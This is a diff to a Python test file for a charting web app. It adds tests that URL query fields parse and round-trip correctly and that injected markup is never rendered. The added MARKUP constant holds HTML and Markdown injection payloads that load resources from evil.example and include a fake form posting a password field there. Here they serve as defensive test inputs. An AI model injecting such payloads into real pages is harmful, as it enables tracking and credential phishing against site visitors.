@@ -1,11 +1,13 @@
 """What a visitor looks at: every page on the demo, the URL, and what the pages share."""
 
 import re
+from dataclasses import fields
 
 import numpy as np
 import pytest
 from visit import PAGES, PRIVACY, Visit, plain
 
+from hierviz.app.view import GRAMMAR, View
 from hierviz.charts import threshold_text
 from hierviz.inference import INFERENCE_RULES
 
@@ -73,12 +75,13 @@ def test_link_to_files_that_are_not_here(page):
         ("0.12345", 0.12345),
         ("7", 1.0),
         ("-1", 0.0),
-        ("inf", 1.0),
+        ("inf", 0.5),
         ("nan", 0.5),
         ("", 0.5),
         ("half", 0.5),
         ("1e999", 1.0),
-        ("٠.٢", 0.2),
+        ("٠.٢", 0.5),
+        ("1_0", 0.5),
     ],
 )
 def test_threshold_of_the_url(asked, tau):
@@ -137,6 +140,60 @@ def test_garbage_in_the_url_falls_back(no_charts, field):
         "Draw as": "icicle",
     }
     assert visit.control("Worst first by").value == "win_lost"
+
+
+MARKUP = (
+    '"><img src=http://evil.example/a.png><style>@import "http://evil.example/b.css"</style>',
+    "![x](http://evil.example/c.png) <form action=http://evil.example><input name=password></form>",
+)
+
+
+def test_every_field_of_the_url_has_a_grammar():
+    assert set(GRAMMAR) == {field.name for field in fields(View)}
+    for markup in MARKUP:
+        view = View.from_query(dict.fromkeys(GRAMMAR, markup))
+        # Samples and classes may be called anything.
+        assert view == View(sample=markup, under=markup, drawn=(), marked=())
+    assert View.from_query({"data": "DEMO", "sample": "a\nb", "under": "x" * 1001, "taus": "a:0.5,a:b,<i>:1"}) == View(
+        taus=("a:0.500",)
+    )
+
+
+def test_a_view_stands_in_the_url_as_it_is():
+    view = View(
+        data="0123456789abcdef",
+        models=("a-1", "b"),
+        model="b",
+        rule="leaf",
+        tau=0.123456789012,
+        bits=3.25,
+        lam=0.5,
+        sample=MARKUP[1],
+        outcome="wrong",
+        under="a > b",
+        order="file",
+        tree="list",
+        axes="exact-correct",
+        drawn=("levels", "bands"),
+        marked=(),
+        panel="none",
+        taus=("a-1:0.250", "b:0.999999"),
+    )
+    assert View.from_query(view.to_query()) == view
+    assert View.from_query({}) == View()
+
+
+@pytest.mark.parametrize("page", ["open", "example"])
+def test_markup_in_the_url_is_drawn_nowhere(no_charts, page):
+    """Neither as HTML nor as Markdown, in one field or in all of them, whether it stays in the URL or not."""
+    visit = None
+    for markup in MARKUP:
+        for query in ({field: markup} for field in GRAMMAR) if page == "open" else (dict.fromkeys(GRAMMAR, markup),):
+            visit = visit.go(**query) if visit else Visit(page, **query)
+            drawn = [one.proto.body for one in visit.at.get("html")]
+            assert "evil" not in "".join(drawn)
+            assert all(one.count("<") < 3 for one in drawn if "hierviz-view" in one)
+            assert all(markup not in one for one in visit.markdown())
 
 
 @pytest.mark.parametrize("under", ["tram", "vehicle"])
